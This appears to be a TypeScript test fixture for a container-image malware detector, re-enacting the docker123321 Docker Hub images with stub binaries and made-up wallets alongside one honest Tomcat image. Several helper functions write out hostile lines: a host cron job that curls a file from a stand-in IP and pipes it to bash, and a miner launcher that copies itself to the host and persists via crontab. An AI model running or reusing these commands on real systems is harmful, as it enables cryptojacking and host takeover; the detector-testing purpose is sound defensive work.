import type { ExampleFiles, ExampleImage } from '../../detectors/detector.ts';
import { f01, f02, f03, f04 } from '../incidents/host-incidents.ts';
import { stubProgram } from '../incidents/stub-program.ts';
import { madeUpWallet } from '../wallet.ts';

/** One image of the account, re-enacted: what its payload did, with addresses, keys and wallets that belong to nobody. */
export interface DemoImage {
  readonly repository: string;
  /** When it says it was made: one of the account's three batches. */
  readonly created: string;
  readonly family: 'python shell' | 'bash shell' | 'ssh key' | 'miner' | 'honest';
  readonly image: ExampleImage;
}

const base: ExampleFiles = {
  '/bin/sh': { content: stubProgram('stand-in for a shell'), mode: 0o755 },
  '/usr/bin/curl': { content: stubProgram('stand-in for curl'), mode: 0o755 },
  '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n',
  '/etc/os-release': 'ID=demo\nNAME="Demo base"\n',
};

/** Batches as incidents record them: May 2017, October to December 2017, January and February 2018. */
const batches = ['2017-05-10T08:00:00Z', '2017-11-02T08:00:00Z', '2018-01-20T08:00:00Z'] as const;

function script(text: string): ExampleImage {
  return {
    layers: [base, { '/run.sh': { content: `#!/bin/sh\n${text}\n`, mode: 0o755 } }],
    entrypoint: ['/bin/sh', '/run.sh'],
  };
}

/** The host's cron fetches a "picture" and runs it; whatever else it needs comes with that. */
function downloader(file: string): ExampleImage {
  const job = `* * * * * curl -s http://203.0.113.147:8220/${file} | bash -s`;
  return { layers: [base], cmd: ['sh', '-c', `echo "${job}" >> /mnt/etc/crontab; sleep infinity`] };
}

/** The miner lies in the image; a cron job of the host copies it out and starts it. */
function embedded(name: string): ExampleImage {
  const wallet = madeUpWallet('docker123321 demo');
  return {
    layers: [
      base,
      {
        '/opt/jaav': { content: stubProgram('cryptonight', 'stratum+tcp://', 'minerd'), mode: 0o755 },
        '/opt/config.json': `{"algo": "cryptonight", "url": "stratum+tcp://pool.mine.example:3333", "user": "${wallet}", "pass": "x"}\n`,
        '/run.sh': {
          content: `#!/bin/sh
# ${name}
cp /opt/jaav /opt/config.json /mnt/var/tmp/
chmod 777 /mnt/var/tmp/jaav
echo "* * * * * root pgrep jaav || nohup /var/tmp/jaav -c /var/tmp/config.json >/dev/null 2>&1 &" >> /mnt/etc/crontab
nohup /opt/jaav -B -a cryptonight -o stratum+tcp://pool.mine.example:3333 -u ${wallet} -p x &
sleep infinity
`,
          mode: 0o755,
        },
      },
    ],
    entrypoint: ['/bin/sh', '/run.sh'],
  };
}

function demo(repository: string, batch: 0 | 1 | 2, family: DemoImage['family'], image: ExampleImage): DemoImage {
  return { repository: `docker123321/${repository}`, created: batches[batch], family, image };
}

/**
 * The 17 images: eight under names that reports confirm, nine under numbers, since the sources that listed the rest are
 * gone. Families and batches follow the reports; which numbered image had which payload is ours.
 */
export const docker123321: readonly DemoImage[] = [
  demo('tomcat', 0, 'python shell', script(f02.command)),
  demo('tomcat11', 0, 'bash shell', script(f03.command)),
  demo('tomcat22', 0, 'ssh key', script(f04.command)),
  demo('kk', 1, 'miner', embedded('kk')),
  demo('mysql', 1, 'miner', { layers: [base], cmd: ['sh', '-c', f01.command] }),
  demo('data', 1, 'miner', embedded('data')),
  demo('mysql0', 1, 'miner', downloader('logo5.jpg')),
  demo('cron', 1, 'miner', embedded('cron')),
  demo('image09', 2, 'miner', embedded('image09')),
  demo('image10', 2, 'bash shell', script(f03.command)),
  demo('image11', 2, 'miner', downloader('test.sh')),
  demo('image12', 2, 'miner', embedded('image12')),
  demo('image13', 2, 'python shell', script(f02.command)),
  demo('image14', 2, 'miner', embedded('image14')),
  demo('image15', 2, 'miner', downloader('logo7.jpg')),
  demo('image16', 2, 'bash shell', script(f03.command)),
  demo('image17', 2, 'miner', embedded('image17')),
];

/** An image that does what its name says, in the shape that official ones have. */
export const honest: DemoImage = {
  repository: 'library/tomcat',
  created: '2018-01-15T08:00:00Z',
  family: 'honest',
  image: {
    env: [
      'PATH=/usr/local/tomcat/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
      'CATALINA_HOME=/usr/local/tomcat',
    ],
    workdir: '/usr/local/tomcat',
    layers: [
      base,
      {
        '/usr/bin/java': { content: stubProgram('stand-in for a Java machine'), mode: 0o755 },
        '/usr/local/tomcat/bin/catalina.sh': {
          content: `#!/bin/sh
set -e
: "\${CATALINA_HOME:=/usr/local/tomcat}"
: "\${CATALINA_TMPDIR:=$CATALINA_HOME/temp}"
if [ "$1" = "run" ]; then
  shift
  exec java $JAVA_OPTS -classpath "$CATALINA_HOME/bin/bootstrap.jar" -Djava.io.tmpdir="$CATALINA_TMPDIR" org.apache.catalina.startup.Bootstrap "$@" start
fi
`,
          mode: 0o755,
        },
      },
      {
        '/docker-entrypoint.sh': {
          content: `#!/bin/sh
set -e
if [ "\${1#-}" != "$1" ]; then
  set -- catalina.sh run "$@"
fi
mkdir -p "$CATALINA_HOME/logs" "$CATALINA_HOME/temp"
exec "$@"
`,
          mode: 0o755,
        },
      },
    ],
    entrypoint: ['/docker-entrypoint.sh'],
    cmd: ['catalina.sh', 'run'],
  },
};
